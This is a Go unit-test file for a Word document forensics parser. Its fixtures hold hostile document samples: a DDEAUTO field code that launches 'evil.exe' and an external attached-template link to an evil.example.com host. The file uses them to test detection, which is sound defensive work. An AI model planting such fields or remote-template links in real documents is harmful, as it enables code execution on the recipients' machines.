package parser

import (
	"archive/zip"
	"bytes"
	"testing"

	"docForensics/internal/forgery/errors"
	"docForensics/internal/forgery/model"
)

// buildZip 在内存中组装 OOXML 容器
func buildZip(t *testing.T, entries map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, content := range entries {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatalf("create zip entry %s: %v", name, err)
		}
		if _, err := w.Write([]byte(content)); err != nil {
			t.Fatalf("write zip entry %s: %v", name, err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatalf("close zip: %v", err)
	}
	return buf.Bytes()
}

const docHeader = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">`

func TestParseWord_RunsAndProperties(t *testing.T) {
	doc := docHeader + `<w:body>
<w:p>
  <w:pPr><w:shd w:val="clear" w:fill="FFFFFF"/></w:pPr>
  <w:r>
    <w:rPr><w:color w:val="FFFFFF"/><w:sz w:val="24"/><w:rFonts w:ascii="Arial"/></w:rPr>
    <w:t>hidden payload text here</w:t>
  </w:r>
  <w:r>
    <w:rPr><w:vanish/><w:b/></w:rPr>
    <w:t>vanished</w:t>
  </w:r>
</w:p>
</w:body></w:document>`

	data := buildZip(t, map[string]string{"word/document.xml": doc})
	view, err := ParseWord(data)
	if err != nil {
		t.Fatalf("ParseWord failed: %v", err)
	}

	if view.DocType() != model.DocWord {
		t.Errorf("DocType = %v, want DocWord", view.DocType())
	}
	if len(view.Paragraphs) != 1 {
		t.Fatalf("paragraphs = %d, want 1", len(view.Paragraphs))
	}
	para := view.Paragraphs[0]
	if para.Shading != "FFFFFF" {
		t.Errorf("paragraph shading = %q, want FFFFFF", para.Shading)
	}
	if len(para.Runs) != 2 {
		t.Fatalf("runs = %d, want 2", len(para.Runs))
	}

	r0 := para.Runs[0]
	if r0.Text != "hidden payload text here" {
		t.Errorf("run text = %q", r0.Text)
	}
	if r0.Color != "FFFFFF" {
		t.Errorf("run color = %q, want FFFFFF", r0.Color)
	}
	if r0.SizePt != 12.0 {
		t.Errorf("run size = %v pt, want 12", r0.SizePt)
	}
	if r0.Font != "Arial" {
		t.Errorf("run font = %q, want Arial", r0.Font)
	}

	r1 := para.Runs[1]
	if !r1.Vanish {
		t.Error("second run should carry vanish property")
	}
	if !r1.Bold {
		t.Error("second run should be bold")
	}
}

func TestParseWord_RevisionsAndFields(t *testing.T) {
	doc := docHeader + `<w:body>
<w:p>
  <w:del w:author="editor-b" w:date="2024-03-01T10:00:00Z">
    <w:r><w:delText>shall not exceed 500</w:delText></w:r>
  </w:del>
  <w:r>
    <w:fldChar w:fldCharType="begin"/>
  </w:r>
  <w:r><w:instrText> DDEAUTO c:\\evil.exe </w:instrText></w:r>
</w:p>
</w:body></w:document>`

	data := buildZip(t, map[string]string{"word/document.xml": doc})
	view, err := ParseWord(data)
	if err != nil {
		t.Fatalf("ParseWord failed: %v", err)
	}

	if len(view.Revisions) != 1 {
		t.Fatalf("revisions = %d, want 1", len(view.Revisions))
	}
	rev := view.Revisions[0]
	if rev.Kind != "del" {
		t.Errorf("revision kind = %q, want del", rev.Kind)
	}
	if rev.Author != "editor-b" {
		t.Errorf("revision author = %q", rev.Author)
	}
	if rev.Text != "shall not exceed 500" {
		t.Errorf("revision text = %q", rev.Text)
	}
	if rev.Date.IsZero() {
		t.Error("revision date should be parsed")
	}

	if len(view.FieldCodes) != 1 {
		t.Fatalf("field codes = %d, want 1", len(view.FieldCodes))
	}
	if view.FieldCodes[0].Instruction == "" {
		t.Error("field instruction should not be empty")
	}
}

func TestParseWord_CorePropertiesAndTemplate(t *testing.T) {
	core := `<?xml version="1.0"?>
<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"
  xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/">
<dc:creator>alice</dc:creator>
<cp:lastModifiedBy>bob</cp:lastModifiedBy>
<dcterms:created>2024-01-10T08:00:00Z</dcterms:created>
<dcterms:modified>2024-01-12T09:30:00Z</dcterms:modified>
<cp:revision>7</cp:revision>
</cp:coreProperties>`

	rels := `<?xml version="1.0"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1"
  Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
  Target="http://evil.example.com/remote.dotm" TargetMode="External"/>
</Relationships>`

	data := buildZip(t, map[string]string{
		"word/document.xml":               docHeader + `<w:body><w:p><w:r><w:t>x</w:t></w:r></w:p></w:body></w:document>`,
		"docProps/core.xml":               core,
		"word/_rels/settings.xml.rels":    rels,
		"word/media/image1.png":           "fakepng",
	})

	view, err := ParseWord(data)
	if err != nil {
		t.Fatalf("ParseWord failed: %v", err)
	}

	if view.Core.Creator != "alice" {
		t.Errorf("creator = %q, want alice", view.Core.Creator)
	}
	if view.Core.LastModifiedBy != "bob" {
		t.Errorf("lastModifiedBy = %q, want bob", view.Core.LastModifiedBy)
	}
	if view.Core.Revision != 7 {
		t.Errorf("revision = %d, want 7", view.Core.Revision)
	}
	if view.Core.Created.After(view.Core.Modified) {
		t.Error("created should be before modified in fixture")
	}
	if view.AttachedTemplate != "http://evil.example.com/remote.dotm" {
		t.Errorf("attached template = %q", view.AttachedTemplate)
	}
	if len(view.EmbeddedParts) != 1 {
		t.Errorf("embedded parts = %d, want 1", len(view.EmbeddedParts))
	}
}

func TestParseWord_MalformedInput(t *testing.T) {
	// 非 zip 字节
	if _, err := ParseWord([]byte("not a zip archive at all")); err == nil {
		t.Error("ParseWord should fail on non-zip input")
	} else if !errors.IsParseError(err) {
		t.Errorf("error should be in parse band, got %v", err)
	}

	// 缺少主文档部件
	data := buildZip(t, map[string]string{"word/other.xml": "<x/>"})
	if _, err := ParseWord(data); err == nil {
		t.Error("ParseWord should fail without word/document.xml")
	}
}
